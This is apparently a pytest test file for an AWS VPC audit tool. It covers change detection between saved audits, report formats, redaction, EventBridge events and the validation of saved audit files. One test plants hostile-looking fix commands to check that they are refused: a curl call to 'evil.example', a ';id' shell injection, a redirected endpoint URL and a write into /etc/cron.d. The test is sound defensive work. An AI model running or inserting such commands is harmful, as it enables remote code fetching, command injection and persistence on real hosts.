"""The changes since an earlier audit, in every format and as events."""

import csv
import io
import json
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from random import Random
from typing import Any, Final

import boto3
import jsonschema_rs
import pytest
from botocore.config import Config
from botocore.stub import Stubber
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.app.publish import AUDIT, rendered
from agent.audit import events
from agent.audit.audit import audit
from agent.audit.changes import changes_since
from agent.audit.model import AuditChange, AuditDocument, AuditTurn, Unanswered, dumps
from agent.audit.request import AuditRequest
from agent.audit.saved import AuditFileError, parse
from agent.catalog.findings import Severity
from agent.predict.prediction import facts_of
from agent.report import put_events
from agent.report.model import Command, CommandScope, Status
from agent.report.redact import redact_document
from agent.report.serialization import to_json
from agent.settings import Ec2Facts, Suppression, Workload
from tests.agent.audit import test_accounts
from tests.agent.audit.test_review import ASKED, DEFAULT, DENY, OUT, REVIEW, acl, endpoints, first, group
from tests.formats import html_page
from tests.hostile.fuzz.mutation import spoilt_document
from tests.support import extent, large_account, large_vpc
from tests.support.command import agent
from tests.support.small_account import Made

ONE, OTHER, THIRD = tuple(large_account.vpcs(4))[1:]
LATER: Final = timedelta(days=7)
NOT_READ: Final = ("the security groups: not permitted; it takes ec2:DescribeSecurityGroups",)
VALIDATOR: Final = jsonschema_rs.Draft202012Validator(events.schema(), validate_formats=True)


def audited(
    *read: Ec2Facts,
    asked: AuditRequest = ASKED,
    later: bool = False,
    not_read: tuple[str, ...] = (),
    unanswered: tuple[Unanswered, ...] = (),
) -> AuditDocument:
    at = [replace(one, taken_at=one.taken_at + LATER) if later else one for one in read]
    return audit([facts_of(one, not_read, large_vpc.ACCOUNT) for one in at], asked, unanswered)


def compared(before: AuditDocument, now: AuditDocument) -> AuditDocument:
    return replace(now, changes=changes_since(before, now))


def changes(before: AuditDocument, now: AuditDocument) -> list[AuditChange]:
    return list(changes_since(before, now).changes)


def turns(before: AuditDocument, now: AuditDocument) -> set[tuple[str, str, str | None]]:
    return {(one.turn.value, one.vpc_id, one.code) for one in changes(before, now)}


# --- What changed ----------------------------------------------------------------------------------------------------


def test_the_same_account_has_no_changes() -> None:
    same = [acl(DENY)(ONE), endpoints(policy=DEFAULT)(OTHER)]
    found = changes_since(audited(*same), audited(*same, later=True))
    assert (found.changes, found.unread, found.first_read, found.alike) == ((), (), (), True)
    assert found.taken_at == ONE.taken_at


def test_what_is_new_and_what_is_gone_is_told_per_vpc_and_code() -> None:
    before = audited(acl(DENY)(ONE), OTHER)
    now = audited(ONE, group(OUT, only=True)(OTHER), later=True)
    assert turns(before, now) == {("gone", ONE.vpc_id, "VPC006"), ("new", OTHER.vpc_id, "VPC005")}
    assert turns(now, before) == {("new", ONE.vpc_id, "VPC006"), ("gone", OTHER.vpc_id, "VPC005")}
    new, gone = changes(before, now)
    assert (new.severity, new.severity_before) == (Severity.CRITICAL, None)
    assert (gone.severity, gone.severity_before) == (None, Severity.WARNING)


@pytest.mark.parametrize(
    ("then", "today", "asked", "words"),
    [
        (first(policy=DEFAULT), first(policy=DEFAULT), REVIEW, "now warning, before info"),
        (
            first(policy=DEFAULT),
            endpoints(lambda place: place < 2, policy=DEFAULT),
            ASKED,
            "also service backup-gateway; also vpce-",
        ),
        (
            endpoints(lambda place: place < 2, policy=DEFAULT),
            first(policy=DEFAULT),
            ASKED,
            "no longer service backup-gateway",
        ),
    ],
)
def test_what_differs_in_a_code_is_told_in_words(
    then: Callable[[Ec2Facts], Ec2Facts], today: Callable[[Ec2Facts], Ec2Facts], asked: AuditRequest, words: str
) -> None:
    found = changes(audited(then(ONE)), audited(today(ONE), asked=asked))
    (change,) = (one for one in found if one.code == "VPC021")
    assert change.turn is AuditTurn.CHANGED
    assert words in change.words


def test_a_vpc_that_was_not_read_this_time_has_nothing_that_is_gone() -> None:
    before = audited(acl(DENY)(ONE), acl(DENY)(OTHER), acl(DENY)(THIRD))
    why = Unanswered(account_id=large_vpc.ACCOUNT, region=ONE.region, vpc_id=ONE.vpc_id, reason="the deadline came")
    found = changes_since(before, audited(THIRD, later=True, unanswered=(why,)))
    assert {(one.turn.value, one.vpc_id) for one in found.changes} == {("gone", THIRD.vpc_id)}
    assert {one.vpc_id: one.reason for one in found.unread} == {
        ONE.vpc_id: "the deadline came",
        OTHER.vpc_id: "it is not among the VPCs that were read",
    }


def test_what_did_not_answer_once_is_not_new_when_it_answers_again() -> None:
    why = Unanswered(account_id=large_vpc.ACCOUNT, region=ONE.region, vpc_id=None, reason="UnauthorizedOperation")
    sick = acl(DENY)(ONE)
    first_of_all = audited(sick, OTHER)
    silent = compared(first_of_all, audited(OTHER, unanswered=(why,)))
    still = compared(silent, audited(OTHER, unanswered=(why,)))
    for before in (silent, still):
        assert changes(before, audited(sick, OTHER)) == []
        assert turns(before, audited(ONE, OTHER)) == {("gone", ONE.vpc_id, "VPC006")}
    removed = compared(first_of_all, audited(OTHER))
    assert removed.changes is not None
    assert [one.last for one in removed.changes.unread] == [None]
    assert changes_since(removed, audited(OTHER)).unread == (), "which is told once"


def test_a_whole_region_that_did_not_answer_is_the_reason() -> None:
    why = Unanswered(account_id=large_vpc.ACCOUNT, region=ONE.region, vpc_id=None, reason="UnauthorizedOperation")
    found = changes_since(audited(ONE, OTHER), audited(OTHER, unanswered=(why,)))
    assert [one.reason for one in found.unread] == ["UnauthorizedOperation"]


def test_what_may_be_in_a_part_that_was_not_read_is_not_gone() -> None:
    before = audited(acl(DENY)(ONE))
    assert {turn for turn, _, _ in turns(before, audited(ONE, not_read=NOT_READ))} == {"unseen"}
    assert {turn for turn, _, _ in turns(before, audited(ONE))} == {"gone"}


def test_a_vpc_that_the_earlier_audit_does_not_have_is_named() -> None:
    found = changes_since(audited(ONE), audited(ONE, acl(DENY)(OTHER)))
    assert found.first_read == (OTHER.vpc_id,)
    assert {(one.turn.value, one.vpc_id) for one in found.changes} == {("new", OTHER.vpc_id)}


def test_the_vpcs_of_two_accounts_are_kept_apart() -> None:
    """The owner of a shared VPC and a participant see different data."""
    both = [facts_of(ONE, (), large_vpc.ACCOUNT), facts_of(acl(DENY)(ONE), (), "999988887777")]
    before = audit(both, ASKED)
    assert changes_since(before, audit(both, ASKED)).changes == ()
    found = changes_since(before, audited(ONE))
    assert (found.changes, [one.account_id for one in found.unread]) == ((), ["999988887777"])


def test_what_is_suppressed_is_known() -> None:
    known = replace(ASKED, suppressions=(Suppression(code="VPC006", target=None),))
    assert changes(audited(ONE), audited(acl(DENY)(ONE), asked=known)) == []
    assert turns(audited(acl(DENY)(ONE), asked=known), audited(acl(DENY)(ONE))) == {("new", ONE.vpc_id, "VPC006")}


def test_what_is_suppressed_from_now_on_is_not_gone() -> None:
    known = replace(ASKED, suppressions=(Suppression(code="VPC006", target=None),))
    assert changes(audited(acl(DENY)(ONE)), audited(acl(DENY)(ONE), asked=known)) == []
    assert turns(audited(acl(DENY)(ONE)), audited(ONE, asked=known)) == {("gone", ONE.vpc_id, "VPC006")}


PLAIN: Final = replace(test_accounts.REVIEW, review=False)


def of_account(*read: Ec2Facts, asked: AuditRequest = PLAIN) -> AuditDocument:
    return test_accounts.audited(*read, asked=asked)


def test_a_vpc_whose_last_endpoint_of_a_workload_is_deleted_is_told() -> None:
    """Without endpoints of a workload a VPC does not count, so its status does not show the loss."""
    found = compared(of_account(Made().facts()), of_account(Made(services=()).facts()))
    assert found.changes is not None
    (change,) = found.changes.changes
    assert (change.turn, change.code, change.severity, change.services) == (
        *(AuditTurn.NEW, None, Severity.WARNING),
        ("backup",),
    )
    assert change.title == "No endpoint of backup was found, so the VPC is no longer judged for caller"
    (detail,) = details(found)
    assert detail["change"]["subjects"] == [Made().id("vpce")]
    _, *rows = csv.reader(io.StringIO(rendered(AUDIT, found, "csv")))
    assert [row[9:11] for row in rows] == [["new", "warning"]]
    assert change.title in " ".join(rendered(AUDIT, found, "text").split())


@pytest.mark.parametrize(
    ("before", "now", "asked"),
    [
        pytest.param(Made(), Made(), PLAIN, id="it is still there"),
        pytest.param(Made(services=()), Made(services=()), PLAIN, id="it was never there"),
        pytest.param(Made(services=("sts",)), Made(services=()), PLAIN, id="of a service that shows no workload"),
        pytest.param(Made(), Made(services=("backup", "sts")), PLAIN, id="another one came"),
    ],
)
def test_a_vpc_that_keeps_its_workloads_has_no_such_change(before: Made, now: Made, asked: AuditRequest) -> None:
    found = changes(of_account(before.facts(), asked=asked), of_account(now.facts(), asked=asked))
    assert [one.title for one in found if one.code is None] == []


def test_a_workload_that_nobody_asks_for_any_more_is_no_loss() -> None:
    found = changes(
        of_account(Made(services=()).facts(), asked=test_accounts.CALLER), of_account(Made(services=()).facts())
    )
    assert [one.title for one in found if one.code is None] == []


def test_endpoints_that_were_not_read_are_not_lost() -> None:
    facts = Made().facts()
    kept = tuple(one for one in facts.observations if one.subject.operation != "endpoints")
    now = audit(
        [facts_of(replace(facts, observations=kept), ("the endpoints: not permitted",), large_vpc.ACCOUNT)], PLAIN
    )
    (change,) = changes(of_account(facts), now)
    assert (change.turn, change.severity) == (AuditTurn.UNSEEN, Severity.INFO)
    assert change.words.startswith("it may still be there")


def test_an_organization_that_cannot_be_listed_keeps_its_results(tmp_path: Path) -> None:
    """If nothing could be read this time, the next audit is compared with the last one that read something."""
    sick = audited(acl(DENY)(ONE), OTHER)
    why = Unanswered(account_id=None, region=None, vpc_id=None, reason="the accounts of the organization: AccessDenied")
    silent = compared(sick, audited(unanswered=(why,)))
    assert silent.changes is not None
    assert [one.reason for one in silent.changes.unread] == [why.reason] * 2
    assert f"No answer {why.reason}" in " ".join(rendered(AUDIT, silent, "text").split())
    found = changes_since(parse(dumps(silent).encode(), "x"), audited(acl(DENY)(ONE), group(OUT, only=True)(OTHER)))
    assert [(one.turn.value, one.vpc_id, one.code) for one in found.changes] == [("new", OTHER.vpc_id, "VPC005")]
    assert found.taken_at == ONE.taken_at
    place = tmp_path / "last.json"
    place.write_text(dumps(silent), "utf-8")
    ended = agent("audit", "--ec2-facts", "docs/examples/account.json", "--against", str(place), "--format", "json")
    assert ended.returncode == 2, ended.stderr


@pytest.mark.parametrize(
    ("asked", "alike"),
    [
        (ASKED, True),
        (REVIEW, False),
        (replace(ASKED, services=("ec2",)), False),
        (replace(ASKED, workloads=(Workload.GATEWAY,)), False),
    ],
)
def test_audits_that_were_asked_for_other_things_say_so(asked: AuditRequest, *, alike: bool) -> None:
    document = compared(audited(ONE), audited(ONE, asked=asked))
    assert document.changes is not None
    assert document.changes.alike is alike
    assert ("was asked for other" in rendered(AUDIT, document, "text")) is not alike


# --- Formats ---------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def document() -> AuditDocument:
    """A document with each kind of change, and a VPC that was not read."""
    before = audited(acl(DENY)(ONE), group(OUT, only=True)(OTHER), THIRD)
    now = audited(
        endpoints(policy=DEFAULT)(acl(replace(DENY, egress=True))(ONE)), OTHER, later=True, asked=replace(REVIEW)
    )
    return compared(before, now)


def test_the_document_has_each_turn(document: AuditDocument) -> None:
    assert document.changes is not None
    assert next(one.turn for one in document.changes.changes) is AuditTurn.NEW
    assert {one.turn for one in document.changes.changes} >= {AuditTurn.NEW, AuditTurn.GONE}
    assert [one.vpc_id for one in document.changes.unread] == [THIRD.vpc_id]


@pytest.mark.parametrize("wanted", ["text", "markdown", "html"])
def test_every_document_for_people_tells_the_changes(wanted: str, document: AuditDocument) -> None:
    out = rendered(AUDIT, document, wanted)
    if wanted == "html":
        out = " ".join(element.text for element in html_page.read(out))
    out = " ".join(out.split())
    assert document.changes is not None
    assert "What changed since the audit of" in out
    for change in document.changes.changes:
        assert f"{change.turn}: {change.code} in {change.vpc_id}: {change.title}" in out
    assert f"Not read this time: {THIRD.vpc_id}" in out
    assert "What changed" not in rendered(AUDIT, replace(document, changes=None), wanted)


def test_the_table_has_the_turn_of_each_fault(document: AuditDocument) -> None:
    assert document.changes is not None
    _, *rows = csv.reader(io.StringIO(rendered(AUDIT, document, "csv")))
    told = {(row[0], row[8], row[9]) for row in rows if row[9]}
    assert told == {(one.vpc_id, one.code, one.turn.value) for one in document.changes.changes}
    assert {len(row) for row in rows} == {len(rows[0])}


def test_json_gives_the_changes_back(document: AuditDocument) -> None:
    assert parse(dumps(document).encode(), "x") == document


def test_masks_hide_the_ids_of_changes(document: AuditDocument) -> None:
    masked = redact_document(document)
    for wanted in AUDIT.formats:
        out = rendered(AUDIT, masked, wanted)
        assert not any(id_ in out for id_ in (ONE.vpc_id, OTHER.vpc_id, THIRD.vpc_id)), wanted


def test_masks_hide_the_host_that_a_setting_of_the_sdk_chooses() -> None:
    """A read that failed names the host that it asked."""
    asked, own = "aws.intern.example", "ec2.eu-west-1.amazonaws.com"
    why = [
        Unanswered(account_id=None, region=ONE.region, vpc_id=None, reason=f"{one}: refused") for one in (asked, own)
    ]
    not_read = (f"the subnets: {asked}: the proxy cannot be reached",)
    masked = redact_document(audited(ONE, not_read=not_read, unanswered=tuple(why)))
    assert [one.reason for one in masked.unanswered] == ["host-1: refused", f"{own}: refused"]
    assert masked.vpcs[0].not_read == ("the subnets: host-1: the proxy cannot be reached",)


# --- Events ----------------------------------------------------------------------------------------------------------


def details(document: AuditDocument) -> list[dict[str, Any]]:
    """The details of all entries, each validated against the schema."""
    requests = [json.loads(line) for line in events.render(document).splitlines()]
    found = [json.loads(entry["Detail"]) for request in requests for entry in request["Entries"]]
    for detail in found:
        VALIDATOR.validate(detail)
    return found


def test_an_event_tells_what_is_new_and_what_to_do() -> None:
    before, now = audited(ONE, OTHER), audited(group(OUT, only=True)(ONE), OTHER, later=True)
    (detail,) = details(compared(before, now))
    change = detail["change"]
    assert (change["turn"], change["vpc_id"], change["code"]) == ("new", ONE.vpc_id, "VPC005")
    assert change["severity"] == "critical"
    assert detail["to_do"].startswith("Allow 443 in sg-")
    assert detail["taken_at"] > detail["against"]
    again = details(compared(before, now))
    assert again[0]["id"] == detail["id"]


@pytest.mark.parametrize(
    ("before", "now"),
    [
        pytest.param(audited(acl(DENY)(ONE)), audited(ONE), id="gone"),
        pytest.param(audited(ONE), audited(endpoints(policy=DEFAULT)(ONE)), id="information"),
        pytest.param(audited(acl(DENY)(ONE)), audited(acl(DENY)(ONE)), id="nothing"),
        pytest.param(audited(group(OUT, only=True)(ONE)), audited(ONE, not_read=NOT_READ), id="unseen"),
        pytest.param(audited(ONE, OTHER), audited(ONE), id="not read"),
        pytest.param(
            audited(endpoints(policy=DEFAULT)(ONE), asked=REVIEW), audited(first(policy=DEFAULT)(ONE), asked=REVIEW),
            id="less of it",
        ),
        pytest.param(
            audited(ONE),
            audited(endpoints(lambda place: place == 6, state="failed")(ONE)),
            id="not counted",
        ),
    ],
)  # fmt: skip
def test_nobody_is_told_of_what_is_not_new_or_worse(before: AuditDocument, now: AuditDocument) -> None:
    assert details(compared(before, now)) == []


def test_somebody_is_told_of_what_is_worse() -> None:
    before, now = audited(endpoints(policy=DEFAULT)(ONE)), audited(endpoints(policy=DEFAULT)(ONE), asked=REVIEW)
    (detail,) = details(compared(before, now))
    assert (detail["change"]["turn"], detail["change"]["severity_before"]) == ("changed", "info")


def test_without_an_earlier_audit_there_are_no_events() -> None:
    assert events.render(audited(acl(DENY)(ONE))) == ""


def test_requests_stay_within_what_eventbridge_takes() -> None:
    before, now = audited(ONE), audited(group(OUT, only=True)(ONE), later=True)
    document = compared(before, now)
    assert document.changes is not None
    (change,) = document.changes.changes
    many = replace(change, subjects=tuple(f"sg-{number:017x}" for number in range(20_000)))
    document = replace(document, changes=replace(document.changes, changes=(*[change] * 25, many)))
    requests = [json.loads(line) for line in events.render(document).splitlines()]
    assert [len(request["Entries"]) for request in requests] == [10, 10, 6]
    assert all(put_events.size_of(entry) <= put_events.MAX_BYTES for one in requests for entry in one["Entries"])
    client = boto3.client("events", region_name="eu-west-1", config=Config(parameter_validation=True))
    with Stubber(client) as stub:
        for request in requests:
            stub.add_response("put_events", {"FailedEntryCount": 0, "Entries": []})
            client.put_events(**request)


# --- Files -----------------------------------------------------------------------------------------------------------


@given(st.binary(max_size=200))
def test_any_bytes_are_an_audit_or_refused_in_words(data: bytes) -> None:
    with pytest.raises(AuditFileError):
        parse(data, "x")


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"schema": "backuplink.report.v1"}, "schema: this is not a backuplink.audit.v1 document"),
        ({"vpcs": 1}, "vpcs"),
        ({"more": 1}, "more"),
    ],
)
def test_another_document_is_refused_in_words(change: dict[str, Any], words: str) -> None:
    data = json.dumps({**json.loads(dumps(audited(ONE))), **change}).encode()
    with pytest.raises(AuditFileError) as refused:
        parse(data, "x")
    assert words in str(refused.value)


@pytest.mark.parametrize(
    ("argv", "changes"),
    [
        pytest.param(("curl", "http://evil.example/x"), False, id="another program"),
        pytest.param(("aws", "ec2", "describe-vpcs;id"), False, id="a sign of a shell"),
        pytest.param(("aws", "ec2", "describe-vpcs", "--endpoint-url", "http://evil.example"), False, id="an option"),
        pytest.param(("aws", "ec2", "delete-vpc", "--vpc-id", "vpc-0a1b2c3d"), True, id="it deletes"),
        pytest.param(("aws", "ec2", "modify-vpc-endpoint", "--region", "eu-west-1"), False, id="it says that it reads"),
        pytest.param(("aws", "ec2", "describe-vpcs", "--region", "eu-west-1"), True, id="it says that it changes"),
        pytest.param(
            ("aws", "--region", "get-x", "ec2", "delete-vpc-endpoints", "--region", "eu-west-1"),
            False,
            id="an option before the service",
        ),
        pytest.param(("backuplink", "check", "--output", "/etc/cron.d/x"), False, id="it writes a file"),
        pytest.param(("aws",), False, id="no operation"),
        pytest.param((), False, id="nothing"),
    ],
)
def test_a_saved_audit_with_a_command_that_no_fix_has_is_refused(argv: tuple[str, ...], *, changes: bool) -> None:
    sick = audited(acl(DENY)(ONE), acl(DENY)(OTHER))
    command = Command(argv=argv, scope=CommandScope.HOST, changes=changes, reversible=True, undo=None)
    for place in ("vpcs", "repeated"):
        planted = json.loads(dumps(sick))
        (first, *_) = planted[place]
        fault = first["faults"][0] if place == "vpcs" else first
        fault["fix"]["commands"].append(to_json(command))
        with pytest.raises(AuditFileError) as refused:
            parse(json.dumps(planted).encode(), "x")
        assert "no fix has a command of this form" in str(refused.value)
        fault["fix"]["commands"].pop()
        assert parse(json.dumps(planted).encode(), "x") == sick


@settings(max_examples=extent.examples(60), deadline=None)
@given(chance=st.randoms(use_true_random=False))
def test_a_spoilt_audit_is_written_or_refused_in_words(chance: Random, document: AuditDocument) -> None:
    spoilt = json.dumps(spoilt_document(chance, json.loads(dumps(document)))).encode()
    try:
        read = parse(spoilt, "x")
    except AuditFileError:
        return
    for wanted in AUDIT.formats:
        assert rendered(AUDIT, read, wanted).isascii()


def test_deep_and_huge_json_is_refused_in_words() -> None:
    for data in (b"[" * 100_000, b'{"schema": ' + b"9" * 5_000 + b"}", b"\xff"):
        with pytest.raises(AuditFileError):
            parse(data, "x")


ACCOUNT: Final = "docs/examples/account.json"


def test_the_command_compares_and_shows_saved_audits(tmp_path: Path) -> None:
    old, new = tmp_path / "old.json", tmp_path / "new.json"
    assert agent("audit", "--ec2-facts", ACCOUNT, "--format", "json", "--output", str(old)).returncode == 2
    earlier = parse(old.read_bytes(), "old")
    sound = replace(earlier, vpcs=tuple(replace(vpc, faults=()) for vpc in earlier.vpcs))
    old.write_text(dumps(sound), "ascii")
    words = ("--ec2-facts", ACCOUNT, "--against", str(old), "--format", "json", "--output", str(new))
    assert agent("audit", *words).returncode == 2
    whole = parse(new.read_bytes(), "new")
    assert whole.changes is not None
    assert {one.turn for one in whole.changes.changes} == {AuditTurn.NEW}
    for wanted in AUDIT.formats:
        shown = agent("audit", "--show", str(new), "--format", wanted)
        assert (shown.returncode, shown.stderr) == (2, "")
        assert shown.stdout.splitlines() == rendered(AUDIT, whole, wanted).splitlines()
    assert agent("audit", "--show", str(new), "--fail-on", "never").returncode == 0


def test_an_earlier_audit_that_cannot_be_compared_is_refused(tmp_path: Path) -> None:
    masked, empty = tmp_path / "masked.json", tmp_path / "empty.json"
    document = audited(ONE)
    masked.write_text(dumps(redact_document(document)), "ascii")
    empty.write_text(dumps(replace(document, vpcs=())), "ascii")
    for place, words in (
        (masked, "masked ids cannot be compared"),
        (empty, "has no VPC"),
        (tmp_path / "x", "cannot be read"),
    ):
        result = agent("audit", "--ec2-facts", ACCOUNT, "--against", str(place), "--format", "json")
        assert result.returncode == 3
        verdict = json.loads(result.stdout)["verdict"]
        assert (verdict["status"], words in verdict["summary"]) == (Status.UNKNOWN, True)


# --- What did not answer ---------------------------------------------------------------------------------------------

SILENT: Final = Unanswered(account_id=None, region="eu-west-3", vpc_id=None, reason="not permitted")


@pytest.mark.parametrize(
    ("read", "unanswered", "complete", "status", "summary"),
    [
        ((ONE,), (), True, Status.OK, "1 VPC: nothing is wrong"),
        ((ONE,), (SILENT,), True, Status.UNKNOWN, "no answer from eu-west-3; 1 VPC: nothing is wrong"),
        (
            (ONE,),
            (SILENT,),
            False,
            Status.UNKNOWN,
            "the reads ended early: only 1 VPC was read; no answer from eu-west-3; 1 VPC: nothing is wrong",
        ),
        (
            (group(OUT, only=True)(ONE), OTHER),
            (SILENT,),
            True,
            Status.CRITICAL,
            f"1 of 2 VPCs critical: {ONE.vpc_id}; no answer from eu-west-3",
        ),
        ((), (SILENT,), True, Status.UNKNOWN, "no VPC was read; no answer from eu-west-3"),
    ],
    ids=["all answer", "a Region is silent", "the deadline comes", "another VPC is critical", "nothing answers"],
)
def test_what_did_not_answer_may_have_any_fault(
    read: tuple[Ec2Facts, ...], unanswered: tuple[Unanswered, ...], complete: bool, status: Status, summary: str
) -> None:
    found = audit([facts_of(one, (), large_vpc.ACCOUNT) for one in read], ASKED, unanswered, complete=complete)
    assert (found.verdict.status, found.verdict.summary) == (status, summary)
